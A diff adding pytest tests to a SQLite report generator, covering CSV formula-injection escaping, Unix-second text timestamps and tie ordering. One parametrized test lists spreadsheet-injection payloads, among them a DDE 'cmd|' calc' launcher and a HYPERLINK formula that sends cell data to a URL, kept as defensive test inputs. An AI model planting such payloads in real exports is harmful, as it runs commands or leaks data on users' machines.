@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 import re
 import sqlite3
@@ -256,6 +258,46 @@ def test_csv_keeps_hostile_cells_as_quoted_data(hostile_db: Path, out: Path):
     assert written(out) == 'region,n\n"a|b <script>alert(""x"")</script>\nnext",1\n'
 
 
+@pytest.mark.parametrize("formula", ['=HYPERLINK("https://x/?"&A2,"open")', "+1+2",
+                                     "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tx"])
+def test_csv_cells_a_spreadsheet_would_run_are_text(db: Path, out: Path, formula: str):
+    with sqlite3.connect(db) as conn:
+        conn.execute("INSERT INTO orders VALUES (8, ?, 'eve', -5, 'paid', ?)",
+                     (formula, ago(hours=1).isoformat()))
+    conn.close()
+    params = report(db, out, groupBy=["region"], metrics=[
+        {"function": "sum", "column": "total", "as": "revenue"}],
+        filters=[{"column": "id", "op": "eq", "value": 8}])
+    assert generate(params).result == "Succeeded"
+    row = next(csv.reader(io.StringIO(written(out).split("\n", 1)[1])))
+    assert row == ["'" + formula, "-5.0"], "text gets an apostrophe, a negative number not"
+
+
+def test_a_window_over_a_text_column_reads_digits_as_unix_seconds(tmp_path: Path, out: Path):
+    """A TEXT column stores Unix seconds as text; strftime would take them for Julian days."""
+    path = tmp_path / "events.sqlite3"
+    with sqlite3.connect(path) as conn:
+        conn.execute("CREATE TABLE events (kind TEXT, at TEXT)")
+        conn.executemany("INSERT INTO events VALUES (?, ?)", [
+            ("recent", int(ago(hours=1).timestamp())), ("old", int(ago(days=3).timestamp())),
+            ("recent", ago(hours=2).isoformat())])
+    conn.close()
+    params = {"connection": {"driver": "sqlite", "path": str(path)}, "table": "events",
+              "groupBy": ["kind"], "metrics": [{"function": "count", "as": "n"}],
+              "since": {"column": "at", "lookbackHours": 24}, "format": "csv",
+              "destination": {"directory": str(out), "filename": "r.txt"}}
+    assert generate(params).result == "Succeeded"
+    assert written(out) == "kind,n\nrecent,2\n"
+
+
+def test_rows_tied_on_the_ordering_metric_come_in_group_order(db: Path, out: Path):
+    params = report(db, out, groupBy=["customer"], metrics=[{"function": "count", "as": "n"}],
+                    orderBy=[{"column": "n", "direction": "desc"}], limit=3)
+    assert generate(params).result == "Succeeded"
+    assert [line.split(",")[0] for line in written(out).splitlines()[1:]] == [
+        "alice", "carol", "bob"], "alice and carol have 2 each; bob and dave 1, bob first"
+
+
 def set_at(params: dict[str, Any], path: str, value: Any) -> None:
     """Set the parameter a message names, e.g. ``metrics[0].as``."""
     keys: list[Any] = [int(step[1:-1]) if step.startswith("[") else step
@@ -357,7 +399,7 @@ def test_dry_run_shows_the_query_shape_and_writes_nothing(db: Path, out: Path):
         "groupBy": ["region"],
         "metrics": ["count(*) AS n", "count(total) AS priced", "sum(total) AS revenue",
                     "count(DISTINCT customer) AS customers"],
-        "orderBy": ["revenue desc"], "limit": 1000, "path": str(out / "r.txt"),
+        "orderBy": ["revenue desc", "region asc"], "limit": 1000, "path": str(out / "r.txt"),
         "format": "html",
     }
     assert list(out.iterdir()) == []
